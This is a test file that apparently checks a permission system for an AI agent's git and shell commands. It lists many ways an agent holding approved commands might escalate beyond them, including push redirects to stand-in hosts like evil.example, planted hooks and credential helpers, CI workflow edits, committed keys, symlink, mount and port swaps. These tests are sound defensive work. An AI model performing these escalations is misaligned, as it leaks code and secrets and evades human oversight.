import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { chmodSync, mkdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it, onTestFinished } from "vitest";
import { DIST } from "../../scratch.ts";
import { KEY, LINES } from "./attack-lines.ts";
import { everyConsent, MEANT, otherRepository, PORT, testRepository, type TestRepository } from "./repository.ts";

const INSTEAD = '[url "git@evil.example:"]\n\tinsteadOf = git@github.com:\n';

function upstream(git: TestRepository["git"], branch: string): void {
  git("config", "branch.topic.remote", "origin");
  git("config", "branch.topic.merge", `refs/heads/${branch}`);
}

function rewritePolicy(home: string, more: object): void {
  const file = join(home, ".agent-permissions.jsonc");
  writeFileSync(file, JSON.stringify({ ...(JSON.parse(readFileSync(file, "utf8")) as object), ...more }));
}

/** An agent has every consent, and wants more. INVARIANT: none of it goes ahead. */
/** What the agent has done before, in the repository or outside of it; then it pushes, or comments. */
const PREPARED: readonly (readonly [what: string, prepare: (at: TestRepository) => unknown, command?: string])[] = [
  ["set-url", ({ git }) => git("remote", "set-url", "origin", "git@github.com:evil/shop.git")],
  ["set-url to a folder", ({ git, bare }) => git("remote", "set-url", "origin", bare)],
  ["pushurl", ({ git }) => git("remote", "set-url", "--push", "origin", "git@github.com:evil/shop.git")],
  ["a second pushurl", ({ git }) => git("remote", "set-url", "--add", "origin", "git@github.com:evil/shop.git")],
  ["insteadOf", ({ git }) => git("config", "url.git@github.com:evil/.insteadOf", "git@github.com:acme/")],
  ["pushInsteadOf", ({ git }) => git("config", "url.git@evil.example:.pushInsteadOf", "git@github.com:")],
  ["insteadOf of the user", ({ write }) => write("~/.gitconfig", '[url "git@evil.example:"]\n\tinsteadOf = git@github.com:\n')],
  ["a remote's refspec", ({ git }) => git("config", "remote.origin.push", "refs/heads/topic:refs/heads/main")],
  ["a remote's refspec of the user", ({ write }) => write("~/.gitconfig", '[remote "origin"]\n\tpush = +refs/heads/*:refs/heads/main\n')],
  ["mirror", ({ git }) => git("config", "remote.origin.mirror", "true")],
  [
    "upstream main",
    ({ git }) => (
      git("config", "push.default", "upstream"),
      git("config", "branch.topic.remote", "origin"),
      git("config", "branch.topic.merge", "refs/heads/main")
    ),
  ],
  ["matching", ({ git }) => git("config", "push.default", "matching"), "git push origin"],
  ["followTags", ({ git }) => git("config", "push.followTags", "true")],
  ["followTags of the user", ({ write }) => write("~/.gitconfig", "[push]\n\tfollowTags = true\n")],
  ["pushOption", ({ git }) => git("config", "push.pushOption", "merge_request.create")],
  ["recurseSubmodules", ({ git }) => git("config", "push.recurseSubmodules", "on-demand")],
  ["gpgSign", ({ git }) => git("config", "push.gpgSign", "true")],
  ["sshCommand", ({ git }) => git("config", "core.sshCommand", "./x")],
  ["hooksPath", ({ git }) => git("config", "core.hooksPath", "hooks")],
  ["gitProxy", ({ git }) => git("config", "core.gitProxy", "./x")],
  ["receivepack", ({ git }) => git("config", "remote.origin.receivepack", "./x")],
  ["vcs", ({ git }) => git("config", "remote.origin.vcs", "x")],
  ["proxy", ({ git }) => git("config", "http.proxy", "http://evil.example")],
  ["remote proxy", ({ git }) => git("config", "remote.origin.proxy", "http://evil.example")],
  ["extraHeader", ({ git }) => git("config", "http.extraHeader", "X: y")],
  ["credential helper", ({ git }) => git("config", "credential.helper", "!./x")],
  ["include", ({ git }) => git("config", "include.path", "../evil")],
  ["fsmonitor", ({ git }) => git("config", "core.fsmonitor", "./x")],
  ["partial clone", ({ git }) => git("config", "extensions.partialClone", "origin")],
  [
    "config of the working tree",
    ({ git, write }) => (
      git("config", "extensions.worktreeConfig", "true"),
      write(".git/config.worktree", "[push]\n\tfollowTags = true\n")
    ),
  ],
  [
    "pushRemote",
    ({ git }) => (git("remote", "add", "fork", "git@github.com:evil/shop.git"), git("config", "branch.topic.pushRemote", "fork")),
    "git push",
  ],
  [
    "pushDefault",
    ({ git }) => (git("remote", "add", "fork", "git@github.com:evil/shop.git"), git("config", "remote.pushDefault", "fork")),
    "git push",
  ],
  [
    "merge main, without a branch",
    ({ git }) => (git("config", "branch.topic.remote", "origin"), git("config", "branch.topic.merge", "refs/heads/main")),
    "git push",
  ],
  [
    "origin/HEAD set by itself",
    ({ git }) => (
      git("update-ref", "refs/remotes/origin/topic", "HEAD"),
      git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/topic")
    ),
    "git push origin main",
  ],
  ["on main", ({ git }) => git("checkout", "-q", "main"), "git push origin HEAD"],
  ["a branch that stands for main", ({ git }) => git("symbolic-ref", "refs/heads/link", "refs/heads/main"), "git push origin link"],
  ["HEAD is no branch", ({ git }) => git("checkout", "-q", "--detach"), "git push origin HEAD"],
  ["a tag of the same name", ({ git }) => git("tag", "topic")],
  ["a ref of the same name", ({ git }) => git("update-ref", "refs/topic", "HEAD")],
  ["a tag only", ({ git }) => git("tag", "v1"), "git push origin v1"],
  ["a pre-push hook", ({ write }) => chmodSync(write(".git/hooks/pre-push", "#!/bin/sh\n"), 0o755)],
  ["a reference-transaction hook", ({ write }) => chmodSync(write(".git/hooks/reference-transaction", "#!/bin/sh\n"), 0o755)],
  [
    "hooks of the user",
    ({ write }) => (chmodSync(write("~/hooks/pre-push", "#!/bin/sh\n"), 0o755), write("~/.gitconfig", "[core]\n\thooksPath = ~/hooks\n")),
  ],
  ["grafts", ({ write }) => write(".git/info/grafts", "\n")],
  ["alternates", ({ write }) => write(".git/objects/info/alternates", "/tmp\n")],
  ["a remote of old times", ({ write }) => write(".git/remotes/origin", "URL: x\n")],
  ["a workflow", ({ commit }) => commit(".github/workflows/ci.yml", "on: push\nrun: evil\n")],
  ["another workflow", ({ commit }) => commit(".github/workflows/x.yml", "on: push\n")],
  ["an action", ({ commit }) => commit(".github/actions/a/action.yml", "x\n")],
  ["gitlab-ci", ({ commit }) => commit(".gitlab-ci.yml", "x\n")],
  ["circleci", ({ commit }) => commit(".circleci/config.yml", "x\n")],
  ["a Jenkinsfile below", ({ commit }) => commit("ci/Jenkinsfile", "x\n")],
  ["CODEOWNERS", ({ commit }) => commit(".github/CODEOWNERS", "* @evil\n")],
  ["dependabot", ({ commit }) => commit(".github/dependabot.yml", "x\n")],
  ["mergify", ({ commit }) => commit(".mergify.yml", "x\n")],
  ["a workflow taken away", ({ git }) => (git("rm", "-q", ".github/workflows/ci.yml"), git("commit", "-qm", "x"))],
  [
    "a workflow, and origin/main moved onto it",
    ({ commit, git }) => (commit(".github/workflows/x.yml", "x\n"), git("update-ref", "refs/remotes/origin/main", "HEAD")),
  ],
  ["a key in a file", ({ commit }) => commit("a.txt", `token = ${KEY}\n`)],
  ["a key, taken out again", ({ commit }) => (commit("a.txt", `token = ${KEY}\n`), commit("a.txt", "\n"))],
  ["a key in a message", ({ commit }) => commit("a.txt", "x\n", `use ${KEY}`)],
  ["a key in a file said to be binary", ({ commit }) => (commit(".gitattributes", "* -diff\n"), commit("a.txt", `token = ${KEY}\n`))],
  [
    "a key behind a textconv",
    ({ commit, write }) => (
      write("~/.gitconfig", '[diff "x"]\n\ttextconv = true\n[user]\n\tname = a\n\temail = a@b\n'),
      commit(".gitattributes", "* diff=x\n"),
      commit("a.txt", `token = ${KEY}\n`)
    ),
  ],
  ["a file that may hold a secret", ({ commit }) => commit(".env", "A=b\n")],
  ["a private key", ({ commit }) => commit("deploy/id_rsa", "x\n")],
  [
    "a key, and origin/main moved onto it",
    ({ commit, git }) => (commit("a.txt", `token = ${KEY}\n`), git("update-ref", "refs/remotes/origin/main", "HEAD")),
  ],
  [
    "a key that a replaced object hides",
    ({ commit, git }) => {
      commit("a.txt", `token = ${KEY}\n`);
      git("replace", git("rev-parse", "HEAD").trim(), git("rev-parse", "HEAD~1").trim());
    },
  ],
  [
    "a merge that adds a key",
    ({ git, commit, write }) => (
      git("checkout", "-qb", "side", "main"),
      commit("side.txt", "x\n"),
      git("checkout", "-q", "topic"),
      git("merge", "-q", "--no-commit", "side"),
      write("a.txt", `token = ${KEY}\n`),
      git("add", "a.txt"),
      git("commit", "-qm", "merge")
    ),
  ],
  [
    "a root commit of its own",
    ({ git, commit }) => (git("checkout", "-q", "--orphan", "topic2"), commit("a.txt", `token = ${KEY}\n`)),
    "git push origin topic2",
  ],
  [
    "another repository around",
    ({ project, git }) => (mkdirSync(join(project, "sub")), git("init", "-q", join(project, "sub"))),
    "cd sub && git push origin topic",
  ],
  [
    "a git of the project's",
    ({ project }) => (writeFileSync(join(project, "git"), "#!/bin/sh\n"), chmodSync(join(project, "git"), 0o755)),
    "PATH=.:$PATH git push origin topic",
  ],
  ...(
    [
      ["a workflow that is not added yet", ({ write }) => write(".github/workflows/x.yml", "on: push\n")],
      ["a workflow that is changed", ({ write }) => write(".github/workflows/ci.yml", "on: push\nrun: evil\n")],
      ["a workflow, staged", ({ git, write }) => (write("Jenkinsfile", "x\n"), git("add", "Jenkinsfile"))],
      ["a key in a new file", ({ write }) => write("b.txt", `token = ${KEY}\n`)],
      ["a key in a changed file", ({ write }) => write("README.md", `token = ${KEY}\n`)],
      [
        "a key that is staged, and gone again",
        ({ git, write }) => (write("README.md", `${KEY}\n`), git("add", "README.md"), write("README.md", "x\n")),
      ],
      [
        "a key that is staged, and taken for unchanged",
        ({ git, write }) => (
          write("README.md", `${KEY}\n`),
          git("add", "README.md"),
          git("update-index", "--assume-unchanged", "README.md"),
          write("README.md", "# shop\n")
        ),
      ],
      ["a key as a link", ({ project }) => symlinkSync(KEY, join(project, "link"))],
      ["a key in a file said to be binary", ({ write }) => (write(".gitattributes", "* -diff\n"), write("b.txt", `${KEY}\n`))],
      ["a secret that is not ignored", ({ write }) => write("config/.env", "A=b\n")],
      ["a secret that is staged", ({ git, write }) => (write(".gitignore", ".env\n"), write(".env", "A=b\n"), git("add", "-f", ".env"))],
      ["more than is looked through", ({ write }) => write("big.bin", "a".repeat(9 << 20))],
      ["a pre-commit hook", ({ write }) => chmodSync(write(".git/hooks/pre-commit", "#!/bin/sh\n"), 0o755)],
      ["a commit-msg hook", ({ write }) => chmodSync(write(".git/hooks/commit-msg", "#!/bin/sh\n"), 0o755)],
      [
        "a filter of the user's",
        ({ write }) => (write("~/.gitconfig", '[filter "x"]\n\tclean = ./x\n'), write(".gitattributes", "* filter=x\n")),
      ],
      ["a filter", ({ git }) => git("config", "filter.x.clean", "./x")],
      ["signing", ({ git }) => git("config", "commit.gpgSign", "true")],
      ["an editor", ({ git }) => git("config", "core.editor", "./x")],
      ["a repository below", ({ git, project }) => git("init", "-q", join(project, "sub"))],
      ["a submodule", ({ git }) => git("update-index", "--add", "--cacheinfo", `160000,${"1".repeat(40)},sub`)],
      ["asking", ({ home }) => rewritePolicy(home, { unknown: "ask" })],
      ["only logging", ({ home }) => rewritePolicy(home, { unknown: "confine-log" })],
    ] as const satisfies readonly (readonly [string, (at: TestRepository) => unknown])[]
  ).map(([what, prepare]): (typeof PREPARED)[number] => [
    `committed before: ${what}`,
    (at) => (at.write("a.txt", "x\n"), prepare(at)),
    "git add -A && git commit -m done && git push origin topic",
  ]),
  ["an include of the user's", ({ write }) => (write("~/more", INSTEAD), write("~/.gitconfig", "[include]\n\tpath = ~/more\n"))],
  [
    "an include of the user's for this branch",
    ({ write }) => (write("~/more", INSTEAD), write("~/.gitconfig", '[includeIf "onbranch:topic"]\n\tpath = ~/more\n')),
  ],
  ["the other file of the user's", ({ write }) => write("~/.config/git/config", INSTEAD)],
  [
    "a configuration that is a link",
    ({ project, write }) => (
      write("~/config", `[core]\n\tbare = false\n[remote "origin"]\n\turl = git@github.com:evil/shop.git\n`),
      rmSync(join(project, ".git/config")),
      symlinkSync("../../config", join(project, ".git/config"))
    ),
  ],
  [
    "a repository that is a link to another",
    ({ project, git, home }) => {
      const other = otherRepository({ home, git }, "other");
      git("-C", other, "remote", "add", "origin", "git@github.com:acme/shop.git");
      git("-C", other, "branch", "topic");
      renameSync(join(project, ".git"), join(project, "../git"));
      symlinkSync(join(other, ".git"), join(project, ".git"));
    },
  ],
  [
    "in a submodule",
    ({ git, project, home }) => (
      otherRepository({ home, git }, "part"),
      git("-c", "protocol.file.allow=always", "submodule", "add", "-q", join(home, "code/part"), "part"),
      git("-C", join(project, "part"), "remote", "set-url", "origin", "git@github.com:acme/shop.git"),
      git("-C", join(project, "part"), "checkout", "-qb", "topic")
    ),
    "git -C part push origin topic",
  ],
  ["simple, to a branch of another name", ({ git }) => (git("config", "push.default", "simple"), upstream(git, "main")), "git push"],
  ["nothing by default", ({ git }) => (git("config", "push.default", "nothing"), upstream(git, "topic")), "git push"],
  ["tracking, an old word", ({ git }) => (git("config", "push.default", "tracking"), upstream(git, "main")), "git push"],
  [
    "pushRemote, an address",
    ({ git }) => (upstream(git, "topic"), git("config", "branch.topic.pushRemote", "git@github.com:evil/shop.git")),
    "git push",
  ],
  [
    "pushDefault of the user's, an address",
    ({ git, write }) => (upstream(git, "topic"), write("~/.gitconfig", "[remote]\n\tpushDefault = git@github.com:evil/shop.git\n")),
    "git push",
  ],
  ["gh: set-url", ({ git }) => git("remote", "set-url", "origin", "git@github.com:evil/shop.git"), "gh pr comment 1 --body x"],
  ["gh: a second remote", ({ git }) => git("remote", "add", "upstream", "git@github.com:evil/shop.git"), "gh pr comment 1 --body x"],
  ["gh: gh-resolved", ({ git }) => git("config", "remote.origin.gh-resolved", "evil/shop"), "gh pr comment 1 --body x"],
  ...(
    [
      ["a link to another", (lib, at) => (renameSync(lib, `${lib}2`), symlinkSync(otherRepository(at, "other"), lib))],
      ["another of its name", (lib, at) => (renameSync(lib, `${lib}2`), otherRepository(at))],
      ["a copy of it", (lib, { git }) => (renameSync(lib, `${lib}2`), git("clone", "-q", `${lib}2`, lib))],
      ["another `.git`", (lib, at) => (rmSync(join(lib, ".git"), { recursive: true }), otherRepository(at))],
      [
        "a `.git` that is a link",
        (lib, at) => (renameSync(join(lib, ".git"), `${lib}2`), symlinkSync(join(otherRepository(at, "other"), ".git"), join(lib, ".git"))),
      ],
      [
        "a `.git` that leads elsewhere",
        (lib, at) => (
          renameSync(join(lib, ".git"), `${lib}2`),
          writeFileSync(join(lib, ".git"), `gitdir: ${join(otherRepository(at, "other"), ".git")}\n`)
        ),
      ],
      [
        "a pre-commit hook",
        (lib) => (writeFileSync(join(lib, ".git/hooks/pre-commit"), "#!/bin/sh\n"), chmodSync(join(lib, ".git/hooks/pre-commit"), 0o755)),
      ],
      ["a post-index-change hook", (lib) => writeFileSync(join(lib, ".git/hooks/post-index-change"), "#!/bin/sh\n")],
      ["hooksPath", (lib, { git }) => git("-C", lib, "config", "core.hooksPath", "hooks")],
      ["a filter", (lib, { git }) => git("-C", lib, "config", "filter.x.clean", "./x")],
      ["fsmonitor", (lib, { git }) => git("-C", lib, "config", "core.fsmonitor", "./x")],
      ["an editor", (lib, { git }) => git("-C", lib, "config", "core.editor", "./x")],
      ["core.worktree", (lib, { git, home }) => git("-C", lib, "config", "core.worktree", home)],
      ["an include", (lib, { git }) => git("-C", lib, "config", "include.path", "../x")],
      ["signing", (lib, { git }) => git("-C", lib, "config", "commit.gpgSign", "true")],
      ["signing of the user", (_, { write }) => write("~/.gitconfig", "[user]\n\tname = a\n\temail = a@b\n[commit]\n\tgpgSign = true\n")],
      [
        "hooks of the user",
        (_, { write }) => (write("~/hooks/pre-commit", "#!/bin/sh\n"), write("~/.gitconfig", "[core]\n\thooksPath = ~/hooks\n")),
      ],
      ["a repository below", (lib, { git }) => git("init", "-q", join(lib, "sub"))],
      ["a submodule", (lib, { git }) => git("-C", lib, "update-index", "--add", "--cacheinfo", `160000,${"1".repeat(40)},sub`)],
      ["a secret that is not ignored", (lib) => writeFileSync(join(lib, ".env"), "A=b\n")],
      ["a key file below", (lib) => (mkdirSync(join(lib, "a")), writeFileSync(join(lib, "a/id_rsa"), "x\n"))],
      [
        "a repository around",
        (lib, { git, home }) => (rmSync(join(lib, ".git"), { recursive: true }), git("init", "-q", join(home, "code"))),
      ],
      ["the user's home a repository", (lib, { git, home }) => (rmSync(join(lib, ".git"), { recursive: true }), git("init", "-q", home))],
    ] as const satisfies readonly (readonly [string, (lib: string, at: TestRepository) => unknown])[]
  ).flatMap(([what, change]): (typeof PREPARED)[number][] =>
    ["commit -m done", "add -A"].map((words) => [
      `the folder: ${what}`,
      (at) => change(join(at.home, "code/lib"), at),
      `git -C ~/code/lib ${words}`,
    ]),
  ),
  ["gh: insteadOf", ({ git }) => git("config", "url.git@github.com:evil/.insteadOf", "git@github.com:acme/"), "gh pr comment 1 --body x"],
];

describe("an agent that has every consent gets nothing more", () => {
  const at = testRepository(true);
  it("has every consent", () => {
    everyConsent(at);
    otherRepository(at, "other");
    for (const command of MEANT) expect(at.judge(command).verdict).toMatchObject({ decision: "allow", basis: "grant" });
    expect(LINES.length + PREPARED.length).toBeGreaterThan(500);
  });

  it.each(LINES)("%s", (command) => {
    const { verdict } = at.judge(command);
    expect([verdict.decision === "allow" && verdict.confined === undefined, verdict.reason]).toEqual([false, verdict.reason]);
  });

  it.each(PREPARED.map(([what, prepare, command = "git push origin topic"]) => ({ what, prepare, command })))(
    "$what: $command",
    ({ what, prepare, command }) => {
      const own = testRepository();
      // Each is looked at by itself: the others cost time.
      const meant = MEANT.filter((one) => what.startsWith("the folder: ") === one.includes("code/lib"));
      everyConsent(own, meant);
      expect(own.judge(meant[0] ?? "").verdict.decision).toBe("allow");
      prepare(own);
      const { verdict } = own.judge(command);
      expect([verdict.decision === "allow" && verdict.confined === undefined, verdict.reason]).toEqual([false, verdict.reason]);
    },
  );
});

describe("a port is its program's", () => {
  /** A process of the user's that listens, as one of an agent's would. */
  async function listen(port: string, host: string): Promise<ChildProcess> {
    const program = `require("net").createServer().listen({ port: ${port}, host: "${host}" }, () => console.log("listens"))`;
    const child = spawn(process.execPath, ["-e", program], { stdio: ["ignore", "pipe", "inherit"] });
    onTestFinished(() => void child.kill("SIGKILL"));
    await once(child.stdout, "data");
    return child;
  }
  const end = async (child: ChildProcess): Promise<void> => {
    child.kill("SIGKILL");
    await once(child, "exit");
  };
  const port = String(Number(PORT) + (Number(PORT) > 60_000 ? -1000 : 1000));
  const command = `redis-cli -h 127.0.0.1 -p ${port} set a b`;

  it("another process that takes it over is asked about, whatever its program", async () => {
    const at = testRepository();
    const first = await listen(port, "127.0.0.1");
    everyConsent(at, [command]);
    expect(at.judge(command).verdict).toMatchObject({ decision: "allow", basis: "grant" });
    await end(first);
    expect(at.judge(command).verdict.decision).toBe("ask");
    expect(at.offered(command).why).toBe("nobody listens there");
    await listen(port, "127.0.0.1");
    expect(at.judge(command).verdict.decision).toBe("ask");
    expect(at.offered(command).why).toBe("another program listens there now than the one you said yes to");
  });

  it("another process beside it, at another address of the machine, is asked about", async () => {
    const at = testRepository();
    await listen(port, "127.0.0.1");
    everyConsent(at, [command]);
    expect(at.judge(command).verdict.decision).toBe("allow");
    await listen(port, "127.0.0.2");
    expect(at.judge(command).verdict.decision).toBe("ask");
    expect(at.offered(command).why).toBe("it is not known which program listens there");
  });
});

/** In namespaces of its own, whoever is root in them can mount. */
const UNSHARE = ["-m", ...(process.getuid?.() === 0 ? [] : ["-r"])];
const CAN_MOUNT = spawnSync("unshare", [...UNSHARE, "true"]).status === 0;

describe.skipIf(!CAN_MOUNT)("what is mounted in its place between the yes and the command", () => {
  /** What it rests on (`grant`: on what was said once) where `from` is mounted over `over`; without: where nothing is. */
  function saidWith(at: TestRepository, command: string, from = "", over = ""): string {
    const script = 'if [ -n "$1" ]; then mount --bind "$1" "$2" || exit 9; fi; shift 2; exec "$@"';
    const words = ["explain", "--json", command];
    const { stdout, status } = spawnSync(
      "unshare",
      [...UNSHARE, "sh", "-c", script, "sh", from, over, process.execPath, join(DIST, "bin.cjs"), ...words],
      { cwd: at.project, env: { PATH: "/usr/bin:/bin", HOME: at.home }, encoding: "utf8" },
    );
    expect([status, stdout]).not.toContain(9);
    return /"basis": ?"(\w+)"/.exec(stdout)?.[1] ?? stdout;
  }
  const PUSH = "git push origin topic";
  const COMMIT = "git -C ~/code/lib commit -m done";

  it.each<readonly [what: string, command: string, over: (at: TestRepository) => string, from: (at: TestRepository) => string]>([
    ["another repository", PUSH, ({ project }) => project, (at) => withOrigin(at, "git@github.com:evil/shop.git")],
    ["another repository with the same remote", PUSH, ({ project }) => project, (at) => withOrigin(at, "git@github.com:acme/shop.git")],
    ["another `.git`", PUSH, ({ project }) => join(project, ".git"), (at) => join(withOrigin(at, "git@github.com:evil/shop.git"), ".git")],
    [
      "another configuration",
      PUSH,
      ({ project }) => join(project, ".git/config"),
      (at) => at.write("~/config", '[remote "origin"]\n\turl = git@github.com:acme/shop.git\n\tpushurl = git@github.com:evil/shop.git\n'),
    ],
    [
      "other hooks",
      PUSH,
      ({ project }) => join(project, ".git/hooks"),
      (at) => (chmodSync(at.write("~/hooks/pre-push", "#!/bin/sh\n"), 0o755), join(at.home, "hooks")),
    ],
    ["another folder", COMMIT, ({ home }) => join(home, "code/lib"), (at) => otherRepository(at, "other")],
    ["another `.git` of the folder", COMMIT, ({ home }) => join(home, "code/lib/.git"), (at) => join(otherRepository(at, "other"), ".git")],
  ])("%s: %s goes ahead no more as it was", (_, command, over, from) => {
    const at = testRepository();
    everyConsent(at, [command]);
    expect(saidWith(at, command)).toBe("grant");
    expect(saidWith(at, command, from(at), over(at))).not.toBe("grant");
  });
});

function withOrigin(at: TestRepository, address: string): string {
  const other = otherRepository(at, "other");
  at.git("-C", other, "remote", "add", "origin", address);
  at.git("-C", other, "branch", "topic");
  return other;
}
